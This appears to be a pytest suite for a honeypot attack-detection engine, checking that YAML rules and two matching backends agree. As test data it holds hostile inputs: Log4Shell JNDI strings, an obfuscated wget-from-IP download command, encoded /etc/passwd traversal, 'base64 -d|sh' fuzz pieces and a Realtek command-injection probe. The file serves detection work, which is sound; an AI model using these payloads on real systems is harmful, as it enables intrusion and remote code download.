"""The engine: operators, fields, combinators, both backends agreeing, bounded matching."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from honeyguard.detect import (
    Ruleset,
    http_subject,
    load_rules,
    raw_http_subject,
    ssh_command_subject,
    ssh_login_subject,
)
from honeyguard.detect.compile import HYPERSCAN_AVAILABLE
from honeyguard.detect.examples import example_subject, run_examples
from honeyguard.detect.fields import FIELD_LIMITS, Subject
from honeyguard.detect.labeler import RuleLabeler
from tests.detect._support import builtin_engine, builtin_ruleset, write_rules

FEATURES = r"""
rules:
  - id: t-contains-list
    name: contains with a list
    cves: [CVE-2021-44228]
    techniques: [T1190]
    severity: high
    protocol: http
    match: {field: header.*, contains: ['${jndi:ldap', '${jndi:rmi']}
    examples:
      positive: [{http: {headers: {X-Api-Version: '${jndi:ldap://x/a}'}}}]
      negative: [{http: {headers: {X-Api-Version: '1.0'}}}]
  - id: t-case-sensitive
    name: case true
    severity: low
    protocol: http
    match: {field: path, contains: /Admin, case: true}
    examples:
      positive: [{http: {target: /Admin}}]
      negative: [{http: {target: /admin}}]
  - id: t-equals-method
    name: equals and not
    techniques: [T1595]
    severity: low
    protocol: http
    match:
      all:
        - {field: method, equals: PROPFIND}
        - not: {field: header.user-agent, startswith: Microsoft-WebDAV}
    examples:
      positive: [{http: {method: propfind, target: /}}]
      negative: [{http: {method: PROPFIND, target: /, headers: {User-Agent: Microsoft-WebDAV-MiniRedir/10.0}}}]
  - id: t-endswith-line-field
    name: endswith on a header (one value a line)
    severity: low
    protocol: http
    match: {field: header.*, endswith: '.onion'}
    examples:
      positive: [{http: {headers: {Host: a.example, X-Forwarded-Host: x.onion}}}]
      negative: [{http: {headers: {Host: x.onion.example}}}]
  - id: t-regex-query
    name: regex on the decoded query
    severity: medium
    protocol: http
    match: {field: query, regex: 'cmd=[a-z]+ -[a-z]'}
    examples:
      positive: [{http: {target: '/?cmd=uname+-a'}}]
      negative: [{http: {target: '/?cmd=uname'}}]
  - id: t-ssh-command
    name: ssh command
    techniques: [T1105]
    severity: medium
    protocol: ssh
    match: {field: command, regex: 'wget\s+http'}
    examples:
      positive: [{ssh: {command: "cd /tmp; w'g'et${IFS}http://198.51.100.7/x"}}]
      negative: [{ssh: {command: 'ls'}}]
  - id: t-ssh-login
    name: ssh login
    severity: info
    protocol: ssh
    match: {all: [{field: username, equals: root}, {field: password, equals: [toor, root], case: true}]}
    examples:
      positive: [{ssh: {username: ROOT, password: toor}}]
      negative: [{ssh: {username: root, password: TOOR}}]
  - id: t-raw-any
    name: raw on any protocol
    severity: info
    protocol: any
    match: {field: raw, startswith: "\x16\x03"}
    examples:
      positive: [{raw: "\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03"}]
      negative: [{raw: "GET / HTTP/1.1\r\nHost: a\r\n\r\n"}]
  - id: t-path-normalised
    name: path is decoded and resolved
    severity: low
    protocol: http
    match: {field: path, equals: /etc/passwd}
    examples:
      positive: [{http: {target: '/cgi-bin/%2e%2e/%252e%252e/..;/etc/passwd'}}]
      negative: [{http: {target: '/etc/passwd.html'}}]
"""


@pytest.fixture(scope="module")
def features(tmp_path_factory: pytest.TempPathFactory) -> Ruleset:
    path = write_rules(tmp_path_factory.mktemp("features"), FEATURES)
    return Ruleset.load([path], builtin=False)


def _engines(ruleset: Ruleset) -> list:  # type: ignore[type-arg]
    hyperscan = [ruleset.engine("hyperscan"), ruleset.engine("hyperscan-pip")] if HYPERSCAN_AVAILABLE else []
    return [ruleset.engine("re"), *hyperscan]


def test_hyperscan_is_installed() -> None:
    assert HYPERSCAN_AVAILABLE  # pyproject lists it for x86-64; the fallback is not the normal path


def test_feature_examples_pass_on_both_engines(features: Ruleset) -> None:
    checks, failures = run_examples(features, _engines(features))
    assert checks == 3 * 18
    assert failures == []


def test_match_carries_cves_and_techniques(features: Ruleset) -> None:
    for engine in _engines(features):
        subject = http_subject(b"GET", b"/", b"HTTP/1.1", [(b"User-Agent", b"${${lower:j}ndi:ldap://x/a}")], b"")
        found = engine.match(subject)
        assert found.rules == ("t-contains-list",)
        assert found.cves == ("CVE-2021-44228",) and found.techniques == ("T1190",)


def test_protocols_do_not_mix(features: Ruleset) -> None:
    for engine in _engines(features):
        assert engine.match(ssh_command_subject(b"cat /etc/passwd")).rules == ()
        assert engine.match(ssh_login_subject(b"root", b"toor")).rules == ("t-ssh-login",)
        assert engine.match(raw_http_subject(b"\x16\x03\x01\x02\x00\x01")).rules == ("t-raw-any",)


def test_both_engines_agree_on_every_example_of_every_rule() -> None:
    ruleset = builtin_ruleset()
    assert len(ruleset) >= 40
    engines = [builtin_engine("hyperscan"), builtin_engine("re")]
    checks, failures = run_examples(ruleset, engines)
    assert checks >= 2 * 3 * 40
    assert [str(f) for f in failures] == []
    for rule in ruleset.rules:  # and agree on the whole match, not only on the rule's own id
        for example in rule.spec.examples.positive + rule.spec.examples.negative:
            subject = example_subject(example)
            assert engines[0].match(subject) == engines[1].match(subject), rule.id


def test_technique_rules_exist_for_every_area() -> None:
    ids = {rule.id for rule in builtin_ruleset().rules if rule.id.startswith("hg-tech-")}
    assert len(ids) >= 40
    for needle in ("traversal", "cmdi", "sqli", "ssti", "serialized", "webshell", "dotenv", "docker", "miner",
                   "authorized-keys", "history-wipe", "scanner"):
        assert any(needle in rule_id for rule_id in ids), needle


def _adversarial(seed: bytes, limit: int) -> bytes:
    return (seed * (limit // max(1, len(seed)) + 1))[:limit]


def _seeds(pattern: bytes) -> list[bytes]:
    """Inputs that make backtracking engines work: runs of the pattern's own literal pieces."""
    words = re.findall(rb"[A-Za-z0-9_./:$%{}-]{1,12}", pattern.replace(b"\\", b""))
    return [b"a", b" ", b"../", b"${", b"%25", *words[:4]]


def test_matching_stays_bounded_on_adversarial_input() -> None:
    """Every regex of the built-in rules, on field-sized runs of its own pieces, on both engines.

    The refused shapes (nested quantifiers, overlapping alternation, back-references) are tested
    in test_rules_loading; this shows that what is accepted finishes (pytest's timeout is the bound).
    """
    ruleset = builtin_ruleset()
    engines = [builtin_engine("hyperscan"), builtin_engine("re")]
    seeds: set[bytes] = set()
    for atom in ruleset.program.atoms:
        if atom.op == "regex":
            seeds.update(_seeds(atom.value))
    fields = [f for proto in ruleset.program.by_field.values() for f in proto]
    for seed in sorted(seeds)[:24]:
        values = {name: _adversarial(seed, FIELD_LIMITS.get(name, FIELD_LIMITS["header"])) for name in fields}
        for protocol in ("http", "ssh"):
            subject = Subject(protocol, values)
            results = [engine.match(subject) for engine in engines]
            assert results[0] == results[1]


def test_field_values_are_cut_to_their_limit() -> None:
    huge = b"A" * (FIELD_LIMITS["body"] * 2)
    subject = http_subject(b"POST", b"/" + b"a" * 40000, b"HTTP/1.1", [(b"X", b"b" * 40000)], huge)
    for name, value in subject.fields.items():
        assert len(value) <= FIELD_LIMITS.get(name, FIELD_LIMITS["header"]), name


def test_rules_from_a_user_folder_are_added(tmp_path: Path) -> None:
    folder = tmp_path / "mine"
    write_rules(folder, FEATURES.replace("id: t-", "id: u-"), "extra.yml")
    rules, errors = load_rules([folder])
    ids = {rule.id for rule in rules}
    assert "u-ssh-login" in ids and any(r.startswith("hg-tech-") for r in ids)
    assert not [e for e in errors if e.file and e.file.startswith(str(folder))]


_HTTP_PIECES = st.sampled_from([b"GET ", b"POST ", b"/", b"..", b"%2e", b"%c0%ae", b"%25", b"%u002e", b"${",
                                b"${lower:j}", b"jndi:", b"}", b"?", b"&", b"=", b"+", b"\r\n", b"\n", b": ",
                                b"Host", b"\\x41", b"base64 -d|sh", b"wget http://", b"1.2.3.4", b"\xc0", b"\xff"])


@given(st.one_of(st.binary(max_size=600), st.lists(_HTTP_PIECES, max_size=60).map(b"".join)))
@settings(max_examples=300, deadline=None)
def test_any_bytes_are_classified_without_error(data: bytes) -> None:
    labeler = RuleLabeler(builtin_engine("hyperscan"))
    result = labeler.classify(raw_http_subject(data))
    assert result == RuleLabeler(builtin_engine("re")).classify(raw_http_subject(data))
    labeler.classify(ssh_command_subject(data))


def test_compiled_databases_are_cached_on_disk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                features: Ruleset) -> None:
    from honeyguard.detect import compile as compiled

    monkeypatch.setenv("HONEYGUARD_CACHE_DIR", str(tmp_path / "hs"))
    monkeypatch.setattr(compiled, "_MEMO", {})
    subject = http_subject(b"GET", b"/Admin", b"HTTP/1.1", [], b"")
    first = features.engine("hyperscan").match(subject)
    files = sorted((tmp_path / "hs").glob("*.hsdb"))
    assert files and first.rules == ("t-case-sensitive",)
    monkeypatch.setattr(compiled, "_MEMO", {})
    assert features.engine("hyperscan").match(subject) == first  # loaded from disk
    for file in files:
        file.write_bytes(b"not a database")
    monkeypatch.setattr(compiled, "_MEMO", {})
    assert features.engine("hyperscan").match(subject) == first  # unreadable: compiled again


def test_realtek_formsyscmd_probe_is_labelled() -> None:
    engine = builtin_engine("auto")
    data = (b"POST /boafrm/formSysCmd HTTP/1.1\r\nHost: 198.51.100.1\r\n"
            b"Content-Type: application/x-www-form-urlencoded\r\n\r\n"
            b"sysCmd=id&apply=Apply&submit-url=%2Fsyscmd.htm&msg=")
    assert "hg-tech-realtek-formsyscmd-probe" in engine.match(raw_http_subject(data)).rules
